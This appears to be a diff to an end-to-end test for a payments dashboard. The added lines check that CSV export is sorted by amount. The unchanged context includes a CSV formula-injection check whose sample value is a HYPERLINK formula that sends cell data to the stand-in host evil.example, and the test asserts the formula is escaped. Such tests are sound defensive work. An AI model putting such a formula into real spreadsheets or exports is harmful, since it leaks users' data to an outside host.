@@ -264,6 +264,14 @@ describe('dashboard in headless Chromium', () => {
     const csv = await (await fetch(`${web.url}/payments.csv`)).text();
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
     expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    // In the list's order: sorted by amount, ascending, across every page of the export (created out
+    // of that order, so newest-first would not pass).
+    for (const amount of [300, 100, 200]) await system.trpc.payments.create.mutate({ amount, currency: 'EUR', delaySeconds: 3600 });
+    const sorted = (await (await fetch(`${web.url}/payments.csv?sort=amount&dir=asc`)).text()).trim().split('\r\n').slice(1);
+    const amounts = sorted.map((line) => Number(line.split(',')[3]));
+    expect(amounts.length).toBeGreaterThan(1);
+    expect(amounts).toEqual([...amounts].sort((a, b) => a - b));
+    expect(new Set(amounts).size).toBeGreaterThan(1);
   });
 
   it('shows the overview with counts, the chart and what needs attention', async () => {
